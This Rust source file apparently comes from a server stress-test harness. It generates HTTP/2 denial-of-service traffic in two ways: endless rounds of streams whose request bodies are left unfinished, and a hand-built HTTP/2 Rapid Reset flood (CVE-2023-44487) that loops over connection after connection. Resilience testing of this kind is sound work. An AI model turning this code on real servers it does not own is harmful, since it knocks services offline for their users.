//! HTTP/2 streams, many on one connection.

use std::future::poll_fn;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use h2::SendStream;
use h2::client::SendRequest;
use hyper::body::Bytes;
use hyper::{Method, Request};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use crate::client::connect;

/// Part of a body that is sent at once.
const PART: &[u8] = &[b' '; 16 << 10];
/// Pause between two rounds on a connection: the server is measured, not how fast an attacker creates streams.
const PAUSE: Duration = Duration::from_secs(1);
/// How long a body is left unfinished.
const HELD_MAX: Duration = Duration::from_mins(1);

/// A request that is sent on many streams.
#[derive(Clone, Copy, Debug)]
pub struct Asked<'a> {
    /// Request target.
    pub path: &'a str,
    /// Bearer token; none if empty.
    pub token: &'a str,
    /// Announced length of its body, bytes; all but the last one are sent.
    pub bytes: usize,
}

impl Asked<'_> {
    fn request(self) -> Result<Request<()>, String> {
        let mut request = Request::builder()
            .method(Method::POST)
            .uri(format!("http://switchboard.test{}", self.path))
            .header("content-type", "application/json")
            .header("content-length", self.bytes);
        if !self.token.is_empty() {
            request = request.header("authorization", format!("Bearer {}", self.token));
        }
        request.body(()).map_err(|error| error.to_string())
    }
}

/// Leaves bodies unfinished on `streams` streams of a connection, then of the next, forever.
pub async fn unfinished(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) {
    loop {
        // However it ends, the next one follows.
        let _ = tokio::time::timeout(HELD_MAX, round(to, from, asked, streams)).await;
        tokio::time::sleep(PAUSE).await;
    }
}

async fn round(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) -> Result<(), String> {
    let (mut sender, mut tasks) = begin(to, from).await?;
    let mut bodies = JoinSet::new();
    for _ in 0..streams {
        sender = sender.ready().await.map_err(|error| error.to_string())?;
        let (answer, body) = sender.send_request(asked.request()?, false).map_err(|error| error.to_string())?;
        bodies.spawn(async move {
            let fed = feed(body, asked.bytes - 1);
            tokio::pin!(fed);
            tokio::select! {
                // An answer to an unfinished body ends the stream.
                answered = answer => drop(answered),
                () = &mut fed => {}
            }
        });
    }
    tokio::select! {
        () = async { while bodies.join_next().await.is_some() {} } => {}
        _ = tasks.join_next() => {}
    }
    Ok(())
}

/// Opens a connection; the tasks drive it until they are dropped.
async fn begin(to: SocketAddr, from: IpAddr) -> Result<(SendRequest<Bytes>, JoinSet<()>), String> {
    let stream = connect(to, from).await.map_err(|error| error.to_string())?;
    let (sender, connection) = h2::client::handshake(stream).await.map_err(|error| error.to_string())?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async move { drop(connection.await) });
    Ok((sender, tasks))
}

/// Sends `bytes` bytes as the flow-control window allows, then waits for a reset.
async fn feed(mut body: SendStream<Bytes>, bytes: usize) {
    let mut left = bytes;
    while left > 0 {
        body.reserve_capacity(left.min(PART.len()));
        let Some(Ok(room)) = poll_fn(|cx| body.poll_capacity(cx)).await else { return };
        let part = room.min(left).min(PART.len());
        if part > 0 && body.send_data(Bytes::from_static(&PART[..part]), false).is_err() {
            return;
        }
        left -= part;
    }
    // The stream is held until the server resets it.
    let _ = poll_fn(|cx| body.poll_reset(cx)).await;
}

/// The beginning of an HTTP/2 connection (RFC 9113): the preface and empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// A request in HPACK: `GET http /user/me`, host `x`.
const REQUEST: &[u8] = b"\x82\x86\x04\x08/user/me\x01\x01x";
/// Streams that a connection opens and resets in one write.
const RESETS: u32 = 200;
/// How long such a connection is read from.
const HEARD_MAX: Duration = Duration::from_millis(50);

/// Opens streams and resets each at once (CVE-2023-44487), on one connection after another. The frames are written by
/// hand, because a library would not send what is cancelled before it is written.
pub async fn rapid_resets(to: SocketAddr, from: IpAddr) {
    let bytes = (0..RESETS).fold(PREFACE.to_vec(), |mut bytes, number| {
        let stream = (2 * number + 1).to_be_bytes();
        // Length, type, flags and stream of a frame: HEADERS with END_HEADERS and END_STREAM; RST_STREAM with CANCEL.
        bytes.extend([[0, 0, 15, 1, 5].as_slice(), &stream, REQUEST].concat());
        bytes.extend([[0, 0, 4, 3, 0].as_slice(), &stream, &[0, 0, 0, 8]].concat());
        bytes
    });
    loop {
        if let Ok(mut stream) = connect(to, from).await
            && stream.write_all(&bytes).await.is_ok()
        {
            let ended = async { while stream.read(&mut [0; 4_096]).await.is_ok_and(|count| count > 0) {} };
            // However it ends, the next one follows.
            let _ = tokio::time::timeout(HEARD_MAX, ended).await;
        }
        tokio::time::sleep(HEARD_MAX).await;
    }
}
